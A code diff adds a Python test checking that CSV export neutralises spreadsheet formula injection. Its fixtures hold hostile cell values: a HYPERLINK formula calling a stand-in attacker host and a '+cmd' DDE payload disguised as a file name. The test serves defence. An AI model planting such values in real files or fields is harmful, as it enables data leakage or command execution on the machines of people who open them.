@@ -123,3 +123,15 @@ def test_a_file_name_that_is_not_utf8_does_not_lose_the_table(tmp_path):
     name = b"caf\xe9.png".decode("utf-8", "surrogateescape")
     p = atomic_write_json(tmp_path / "s.json", {"image": name})
     assert "caf\\udce9.png" in p.read_text(encoding="utf-8")
+
+
+def test_csv_cells_that_look_like_formulas_stay_text(tmp_path):
+    """A list entry or file named '=HYPERLINK(...)' became a live formula in the per-image CSV
+    opened in a spreadsheet; such text now starts with ', numbers stay numbers, and the
+    evaluation reader gives the original text back."""
+    from trufor_lab.common.files import csv_uncell
+
+    rows = [{"id": '=HYPERLINK("http://evil.example/?x")', "score": -0.5}, {"id": "+cmd|' calc'!A0.png", "score": 1}]
+    text = Table(rows).csv()
+    assert "'=HYPERLINK" in text and "'+cmd" in text and ",-0.5" in text
+    assert csv_uncell("'=HYPERLINK(1)") == "=HYPERLINK(1)" and csv_uncell("'quoted") == "'quoted"
